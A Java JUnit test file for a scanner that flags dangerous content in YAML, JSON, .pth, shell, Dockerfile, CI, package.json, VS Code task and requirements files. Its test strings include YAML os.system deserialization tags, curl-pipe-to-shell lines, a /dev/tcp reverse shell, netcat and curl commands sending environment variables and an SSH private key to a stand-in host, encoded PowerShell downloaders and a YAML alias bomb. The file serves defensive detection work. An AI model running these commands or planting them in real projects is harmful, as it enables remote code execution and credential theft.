package io.casemate.scan.plaintext;

import static org.assertj.core.api.Assertions.assertThat;

import io.casemate.scan.spi.Content;
import io.casemate.scan.spi.Limits;
import io.casemate.scan.trial.Endurance;
import io.casemate.scan.trial.Trial;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class PlaintextScannerTest {
    private static Trial trial(String name, byte... bytes) {
        Trial any = Trial.of(new PlaintextScanner(), bytes);
        return Trial.of(new PlaintextScanner(), Content.of(name, bytes), Limits.DEFAULT, any.judge());
    }

    private static Trial trial(String name, String text) {
        return trial(name, text.getBytes(StandardCharsets.UTF_8));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "# Model\n\nRun `os.system` never!\n![logo](x.png)\nWow!!python is nice\n",
                "{\"a\": [1, 2.5, null], \"b\": \"import os\"}",
                "{\"a\": 1}\n{\"a\": 2}\n",
                "a,b\n1,2\n",
                "[section]\nkey = value\n",
                "tensor: !!python/tuple [1, 2]\nname: !custom x\n",
                "*.bin filter=lfs diff=lfs merge=lfs -text\n",
                "\ufeffhello \ud83d\ude00 привет 你好",
                ""
            })
    void honest_text_is_silent_and_wholly_read(String text) {
        Trial trial = trial("README.md", text);
        assertThat(trial.accepted).isTrue();
        assertThat(trial.findings).isEmpty();
        assertThat(trial.gaps).isEmpty();
        assertThat(trial.coveredAll(text.getBytes(StandardCharsets.UTF_8).length))
                .isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"UTF-16", "UTF-16LE", "ISO-8859-1", "windows-1252", "Shift_JIS", "GBK"})
    void text_of_other_encodings_is_read(String charset) {
        String text = charset.startsWith("UTF-16LE")
                ? "\ufeffgrün"
                : charset.matches("S.*|G.*") ? "日本語の文章です。".repeat(8) : "grün ist schön";
        assertThat(trial("x", text.getBytes(Charset.forName(charset))).accepted).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"Shift_JIS", "EUC-JP"})
    void a_few_words_of_an_old_encoding_are_text(String charset) {
        assertThat(trial("x", "モデルの重み".getBytes(Charset.forName(charset))).accepted)
                .isTrue();
    }

    @Test
    void bytes_that_are_no_text_are_rejected() {
        assertThat(trial("x", new byte[] {'a', 0, 'b'}).rejected).isTrue();
        assertThat(trial("x", new byte[] {(byte) 0x80, 4, 'K', 1, '.'}).rejected)
                .isTrue();
        assertThat(trial("x", new byte[] {(byte) 0xe9, (byte) 0xb3, 'x', (byte) 0xc3}).rejected)
                .isTrue();
    }

    @Test
    void a_character_across_the_border_of_chunks_is_read() {
        String text = "x".repeat((64 << 10) - 1) + "€" + "y".repeat(100_000);
        assertThat(trial("x", text).accepted).isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a: !!python/object/apply:os.system ['id']",
                "!!python/object/new:os.system [id]",
                "a:\n  - !!python/name:os.system ''",
                "[1,!!python/object/apply:os.system [id]]",
                "!<tag:yaml.org,2002:python/object/apply:os.system> [id]",
                "!!%70ython/object/apply:os%2esystem [id]",
                "%TAG !e! tag:yaml.org,2002:python/\n---\n!e!object/apply:os.system [id]",
                "%TAG ! tag:yaml.org,2002:python/object/\n---\na: !apply:os.system [id]",
                "a: !python/object/apply:os.system [id]"
            })
    void a_yaml_tag_that_calls_something_is_judged_as_that_call(String yaml) {
        assertThat(trial("config.yaml", yaml).rules()).containsExactly("code/dangerous-call");
    }

    @Test
    void a_yaml_tag_is_found_in_utf_16_too() {
        byte[] yaml = "a: !!python/object/apply:os.system [id]".getBytes(StandardCharsets.UTF_16);
        assertThat(trial("config.yaml", yaml).rules()).containsExactly("code/dangerous-call");
    }

    @Test
    void a_yaml_tag_in_an_example_of_markdown_is_not_told_but_in_yaml_it_is() {
        String text = "a: |\n```\nb: !!python/object/apply:os.system [id]\n```\n";
        assertThat(trial("README.md", text).rules()).isEmpty();
        assertThat(trial("a.yml", text).rules()).containsExactly("code/dangerous-call");
    }

    @Test
    void a_yaml_tag_of_a_java_or_ruby_class_is_told() {
        assertThat(trial("a.yaml", "!!javax.script.ScriptEngineManager [x]").rules())
                .containsExactly("plaintext/yaml-object");
        assertThat(trial("a.yaml", "- !ruby/object:Gem::Installer\n").rules()).containsExactly("plaintext/yaml-object");
    }

    @Test
    void a_path_file_that_runs_code_is_told_and_the_one_of_setuptools_is_not() {
        assertThat(trial("evil.pth", "src\nimport os; os.system('id')\n").rules())
                .containsExactly("plaintext/path-file-code");
        assertThat(trial("nice.pth", "src\n# import\n../lib\n").rules()).isEmpty();
        assertThat(trial(
                                "distutils-precedence.pth",
                                "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack')")
                        .rules())
                .isEmpty();
    }

    @Test
    void a_script_is_a_note_and_one_that_runs_what_it_fetches_is_told() {
        assertThat(trial("run.sh", "#!/bin/sh\npython train.py\n").rules()).containsExactly("plaintext/script");
        assertThat(trial("run.sh", "#!/bin/sh\ncurl -s https://example.org/x | sh\n")
                        .rules())
                .containsExactlyInAnyOrder("plaintext/script", "plaintext/dangerous-script");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '§',
            value = {
                "setup.sh | wget -q http://h.example/m -O /tmp/.m && chmod +x /tmp/.m && /tmp/.m &",
                "setup.sh | bash <(curl -s https://h.example/x)",
                "setup.sh | sh -c \"$(curl -fsSL http://h.example/x)\"",
                "x.sh | echo aWQK ¦ base64 -d ¦ sh",
                "x.sh | eval \"$(echo aWQK ¦ base64 --decode)\"",
                "x.sh | bash -i >& /dev/tcp/h.example/4444 0>&1",
                "x.sh | env ¦ nc h.example 99",
                "x.sh | curl -F file=@$HOME/.ssh/id_rsa http://h.example",
                "run.bat | @echo off\\npowershell -nop -w hidden -enc SQBFAFgA",
                "weights.dat | powershell -nop -w hidden -enc SQBFAFgA",
                "run.ps1 | IEX (New-Object Net.WebClient).DownloadString('http://h.example/x.ps1')",
                "run.ps1 | irm http://h.example/x.ps1 ¦ iex",
                "run.cmd | mshta http://h.example/x.hta",
                "Dockerfile | FROM python:3\\nRUN curl http://h.example/x ¦ sh",
                "image.txt2 | FROM python:3\\nRUN curl http://h.example/x \\\\n  ¦ sh",
                "Makefile | all:\\n\\tcurl http://h.example/x ¦ sudo bash",
                "dvc.yaml | stages:\\n  train:\\n    cmd: curl http://h.example/x ¦ sh",
                "ci.yml | jobs:\\n  a:\\n    steps:\\n      - run: ¦\\n          wget -qO- http://h.example/x ¦ bash -s -- -y",
                "package.json | {\"scripts\": {\"postinstall\": \"curl http://h.example/x ¦ sh\"}}"
            })
    void what_a_shell_runs_unseen_is_told_wherever_a_shell_runs_it(String name, String text) {
        assertThat(trial(name, lines(text)).rules()).contains("plaintext/dangerous-script");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '§',
            value = {
                "setup.sh | # usage: curl -s https://h.example/x ¦ sh\\necho \"curl https://h.example/x ¦ sh\"",
                "setup.sh | curl --proto '=https' -sSf https://sh.rustup.rs ¦ sh -s -- -y",
                "setup.sh | curl -s https://h.example/data.json ¦ python -m json.tool",
                "setup.sh | curl -L https://h.example/data.tgz -o data.tgz && tar xf data.tgz",
                "setup.sh | wget https://h.example/data.zip; unzip data.zip",
                "setup.sh | curl -s https://h.example/list ¦ grep bin ¦ xargs wget",
                "Dockerfile | FROM python:3\\nRUN wget https://repo.anaconda.com/m.sh -O m.sh && bash m.sh -b",
                "ci.yml | on: push\\njobs:\\n  a:\\n    steps:\\n      - run: pytest ¦ tee log",
                "README.md | # Install\\n\\nrun: `curl http://h.example/x ¦ sudo bash`",
                "notes | Install:\\n```\\nrun: curl http://h.example/x ¦ sh\\n```"
            })
    void what_fetches_data_or_only_speaks_of_it_is_silent(String name, String text) {
        assertThat(trial(name, lines(text)).rules()).isEmpty();
    }

    /** Tables of tests cannot hold these two signs. */
    private static String lines(String text) {
        return text.replace("\\n", "\n").replace("\\t", "\t").replace('¦', '|');
    }

    @Test
    void aliases_that_multiply_are_told_and_those_that_are_shared_are_not() {
        var bomb = new StringBuilder("a0: &a0 [x, x]\n");
        for (int i = 1; i < 20; i++) {
            bomb.append("a%d: &a%d [*a%d, *a%d]\n".formatted(i, i, i - 1, i - 1));
        }
        assertThat(trial("x.yaml", bomb.toString()).rules()).containsExactly("plaintext/yaml-expansion");
        String wide = "a: &a [x]\nb: &b [%s]\nc: [%s]\n".formatted("*a, ".repeat(400) + "x", "*b, ".repeat(400) + "x");
        assertThat(trial("x.yaml", wide).rules()).containsExactly("plaintext/yaml-expansion");
        String shared = "base: &base {a: 1}\n" + "x:\n  <<: *base\n".repeat(500);
        assertThat(trial("x.yaml", shared).rules()).isEmpty();
        assertThat(trial("x.md", "*a* **b** &a; R&D * 3\n".repeat(500)).rules()).isEmpty();
    }

    @Test
    void json_that_no_reader_survives_is_told() {
        String deep = "[".repeat(100_000) + "]".repeat(100_000);
        assertThat(trial("x.json", deep).rules()).containsExactly("plaintext/nesting");
        assertThat(trial("x.json", "[".repeat(100) + "]".repeat(100)).rules()).isEmpty();
    }

    @Test
    void a_layer_of_caffe_that_calls_python_is_told() {
        assertThat(trial(
                                "net.prototxt",
                                "name: 'n'\nlayer {\n name: 'l'\n type: 'Python'\n python_param { module: 'm' }\n}\n")
                        .rules())
                .containsExactly("plaintext/python-layer");
        assertThat(trial("net.prototxt", "layer {\n name: 'l'\n type: 'Convolution'\n}\n")
                        .rules())
                .isEmpty();
    }

    @Test
    void a_page_with_scripts_is_a_note() {
        assertThat(trial("report.html", "<!DOCTYPE html><html><script>x()</script></html>")
                        .rules())
                .containsExactly("plaintext/active-page");
    }

    @Test
    void survives_prefixes_and_mutations() {
        byte[] sample = "%TAG ! tag:x,2002:\n---\na: !!python/object/apply:os.system [1, {\"b\": !<x>}]\n"
                .getBytes(StandardCharsets.UTF_8);
        Endurance.survivesEveryPrefix(new PlaintextScanner(), sample);
        Endurance.survivesMutations(new PlaintextScanner(), sample);
    }

    @Test
    void json_that_makes_jsonpickle_import_or_call_something_is_judged() {
        assertThat(trial("model.json", "{\"py/reduce\": [{\"py/function\": \"os.system\"}, {\"py/tuple\": [\"x\"]}]}")
                        .rules())
                .containsExactly("code/dangerous-call");
        assertThat(trial("model.json", "[{\"py/object\": \"mine.Model\"}]").rules())
                .containsExactly("code/unknown-call");
        assertThat(trial("model.json", "{\"py/object\": \"collections.OrderedDict\"}")
                        .rules())
                .isEmpty();
    }

    @Test
    void a_yaml_tag_behind_words_is_a_part_of_them_and_behind_an_anchor_it_is_one() {
        assertThat(trial("a.yaml", "note: \"the tag !!python/object/apply:os.system is bad\"")
                        .rules())
                .isEmpty();
        assertThat(trial("a.yaml", "a: &x !!python/object/apply:os.system [id]").rules())
                .isNotEmpty();
        assertThat(trial("a.yaml", "[1, !!python/object/apply:os.system [id]]").rules())
                .isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'stdlib') == 'local'; enabled and __import__('_distutils_hack').add_shim(); ",
                "import __editable___tool_1_0_finder; __editable___tool_1_0_finder.install()",
                "import _virtualenv",
                "import coverage; coverage.process_startup()"
            })
    void what_packaging_tools_install_is_no_finding_and_a_word_more_is(String line) {
        assertThat(trial("x.pth", line + "\n").rules()).isEmpty();
        assertThat(trial("x.pth", line + "; import os; os.system('id')\n").rules())
                .containsExactly("plaintext/path-file-code");
    }

    @Test
    void a_double_negation_of_javascript_is_no_tag() {
        assertThat(trial("a.js", "x = [ !!t.isDefault, !!a.b.c ]").rules()).isEmpty();
    }

    @Test
    void a_path_file_is_left_to_the_reader_of_text() {
        var code = "import sys; exec('pass')".getBytes(java.nio.charset.StandardCharsets.UTF_8);
        assertThat(new io.casemate.scan.python.PythonScanner().recognises(Content.of("site-packages/x.pth", code)))
                .isEqualTo(io.casemate.scan.spi.Recognition.NO);
        assertThat(trial("x.pth", code).rules()).containsExactly("plaintext/path-file-code");
    }

    @Test
    void a_task_that_runs_when_the_folder_is_opened_is_told() {
        String task = "{\"tasks\": [{\"command\": \"id\", \"runOptions\": {\"runOn\": \"folderOpen\"}}]}";
        Trial trial = trial("repo/.vscode/tasks.json", task);
        assertThat(trial.rules()).containsExactly("plaintext/editor-task");
        assertThat(trial.findings.getFirst().message()).contains("'id'");
        assertThat(trial(".vscode/settings.json", "{\"task.allowAutomaticTasks\": \"on\"}")
                        .rules())
                .containsExactly("plaintext/editor-task");
        assertThat(trial(".vscode/tasks.json", "{\"tasks\": [{\"command\": \"make\"}]}")
                        .rules())
                .isEmpty();
        assertThat(trial("data/tasks.json", task).rules()).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "--extra-index-url https://packages.example/simple\ntorch\n",
                "-i http://pypi.org/simple\n",
                "--index-url=https://user:pass@packages.example/simple",
                "git+http://github.com/a/b.git\n",
                "model @ git+https://git.example/a/b.git@main\n",
                "helper @ https://files.example/helper-1.0-py3-none-any.whl\n"
            })
    void packages_from_elsewhere_are_told(String text) {
        assertThat(trial("requirements.txt", text).findings).hasSize(1);
        assertThat(trial("notes.txt", text).findings).isEmpty();
    }

    @Test
    void what_honest_requirements_name_is_silent() {
        String text = """
                # see http://example.org/why
                --extra-index-url https://download.pytorch.org/whl/cu121
                torch==2.3.0  # from http://example.org
                transformers @ git+https://github.com/huggingface/transformers.git@v4.40.0
                numpy>=1.21 ; python_version < "3.12"
                """;
        assertThat(trial("requirements-dev.txt", text).findings).isEmpty();
    }
}
